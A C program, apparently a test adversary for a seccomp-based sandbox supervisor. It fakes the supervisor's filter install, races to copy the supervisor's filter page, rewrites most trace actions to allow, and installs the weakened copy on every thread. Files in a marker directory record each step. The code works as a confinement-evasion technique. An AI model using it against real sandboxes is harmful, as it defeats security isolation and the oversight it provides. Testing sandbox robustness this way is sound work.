/*
 * tsync_copy DIR: a program that tries to pass a copy of the supervisor's filter layer off as the
 * layer itself. Its own filter answers seccomp(2) calls with flags 0 (the supervisor's injected
 * install) with 0 without running them, and lets the others through. Two watcher threads predict
 * where the next one-page anonymous mapping will go (the page the supervisor maps in a thread to
 * write the layer into), wait for the layer to appear there, copy it with every trace turned into
 * allow but the first two (the probe's), and install the copy on every thread with
 * SECCOMP_FILTER_FLAG_TSYNC, to answer the probe before the supervisor makes it. Each copy
 * installed appends a line to DIR/copied. The main thread writes DIR/ready, then calls chdir("/")
 * every millisecond until DIR/stop exists; a chdir refused with EPERM appends to DIR/refused.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <setjmp.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define PAGE 4096

static const char *dir;
static pthread_mutex_t predicting = PTHREAD_MUTEX_INITIALIZER;
static __thread sigjmp_buf fault;

static void note(const char *name) {
    char path[4096];
    snprintf(path, sizeof path, "%s/%s", dir, name);
    int fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0600);
    if (fd >= 0) {
        dprintf(fd, "x\n");
        close(fd);
    }
}

/* A read of a page that went away while it was watched: start over. */
static void on_fault(int sig) {
    siglongjmp(fault, 1);
}

/* Copies the layer whose header appeared at p, keeps the probe's traces, installs it everywhere. */
static void install_copy(const unsigned char *p, unsigned short len) {
    static __thread struct sock_filter copy[PAGE / sizeof(struct sock_filter)];
    memcpy(copy, p + 16, len * sizeof(struct sock_filter));
    int traces = 0;
    for (int k = 0; k < len; k++) {
        if (copy[k].code == (BPF_RET | BPF_K) && (copy[k].k & SECCOMP_RET_ACTION_FULL) == SECCOMP_RET_TRACE
                && ++traces > 2) {
            copy[k].k = SECCOMP_RET_ALLOW;
        }
    }
    struct sock_fprog prog = {len, copy};
    if (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_TSYNC, &prog) == 0) {
        note("copied");
    }
}

static void *watch(void *unused) {
    for (;;) {
        pthread_mutex_lock(&predicting);
        unsigned char *p = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        munmap(p, PAGE);
        pthread_mutex_unlock(&predicting);
        if (sigsetjmp(fault, 1)) {
            continue;
        }
        unsigned char resident;
        for (long i = 0; i < 2000000; i++) {
            if (mincore(p, PAGE, &resident) != 0) {
                continue;
            }
            for (long j = 0; j < 100000; j++) {
                unsigned short len = *(volatile unsigned short *)p;
                unsigned long at = *(volatile unsigned long *)(p + 8);
                if (len != 0 && at == (unsigned long)(p + 16) && 16 + len * sizeof(struct sock_filter) <= PAGE) {
                    install_copy(p, len);
                    break;
                }
            }
            break;
        }
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc < 2) {
        return 2;
    }
    dir = argv[1];
    struct sock_filter code[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, arch)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, AUDIT_ARCH_X86_64, 0, 5),
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_seccomp, 0, 3),
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[1])),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, 0, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | 0),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog prog = {sizeof code / sizeof code[0], code};
    signal(SIGSEGV, on_fault);
    if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0 || syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog) != 0) {
        perror("seccomp");
        return 3;
    }
    pthread_t watchers[2];
    for (int i = 0; i < 2; i++) {
        pthread_create(&watchers[i], NULL, watch, NULL);
    }
    note("ready");
    char stop[4096];
    snprintf(stop, sizeof stop, "%s/stop", dir);
    struct timespec ms1 = {0, 1000 * 1000};
    for (long i = 0; i < 600000 && access(stop, F_OK) != 0; i++) {
        if (chdir("/") != 0 && errno == EPERM) {
            note("refused");
        }
        nanosleep(&ms1, NULL);
    }
    return 0;
}
